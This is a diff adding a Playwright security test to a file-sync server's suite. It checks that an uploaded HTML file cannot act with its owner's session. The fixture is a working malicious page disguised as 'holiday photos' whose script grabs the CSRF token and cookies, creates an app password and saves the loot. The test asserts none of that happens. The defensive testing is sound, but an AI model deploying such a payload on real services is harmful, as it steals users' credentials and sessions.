@@ -399,3 +399,44 @@ def test_admin_page_shows_each_users_storage_against_the_quota(page, hearth, scr
     playwright_api.expect(page.locator("#quota")).to_contain_text("read-only")
     page.screenshot(path=screenshots / "admin-storage.png", full_page=True)
     assert hearth.request("GET", "/api/v1/admin/usage", user="dee", password="dee password")[0] == 403
+
+
+# An HTML file as someone with write access could leave in a user's folder: when its owner opens it,
+# its script reads the CSRF token from a UI page, creates an app password and writes down what it stole.
+# Synchronous requests, so that whatever it does is done by the page's load event.
+STEALING_PAGE = """<!doctype html><title>holiday photos</title><script>
+function send(method, url, body, headers) {
+  const request = new XMLHttpRequest();
+  request.open(method, url, false);
+  for (const [name, value] of Object.entries(headers || {})) request.setRequestHeader(name, value);
+  request.send(body);
+  return request.responseText;
+}
+const csrf = send("GET", "/browse").match(/name="csrf-token" content="([^"]*)"/)[1];
+const created = send("POST", "/api/v1/me/app-passwords", JSON.stringify({label: "stolen"}),
+                     {"Content-Type": "application/json", "X-CSRF-Token": csrf});
+send("PUT", "/files/admin/traps/loot.txt", csrf + " " + document.cookie + " " + created);
+document.title = "stolen";
+</script><p>nothing to see</p>"""
+
+
+def test_an_html_file_in_a_users_folder_cannot_act_as_them_when_they_open_it(page, hearth, tmp_path):
+    """User content never runs as the UI's origin (core.user_content): the file is not run, so no
+    app password is made, no CSRF token or cookie leaves the page."""
+    needs_files_daemon()
+    status, body = hearth.request("POST", "/sync/v1/folders", body=b'{"name": "traps"}',
+                                  headers={"Content-Type": "application/json"})
+    assert status in (200, 201), body
+    assert hearth.request("PUT", "/files/admin/traps/photos.html", body=STEALING_PAGE.encode())[0] == 201
+    before = json.loads(hearth.request("GET", "/api/v1/me/app-passwords")[1])
+
+    try:
+        page.goto("/files/admin/traps/photos.html", wait_until="load")
+        title = page.title()
+    except playwright_api.Error as error:  # the browser saved it instead of showing it: fine too
+        assert "Download is starting" in error.message, error.message
+        title = None
+    after = json.loads(hearth.request("GET", "/api/v1/me/app-passwords")[1])
+    assert [p["label"] for p in after] == [p["label"] for p in before]  # no "stolen" app password
+    assert hearth.request("GET", "/files/admin/traps/loot.txt")[0] == 404  # nothing read was written down
+    assert title in (None, "holiday photos")
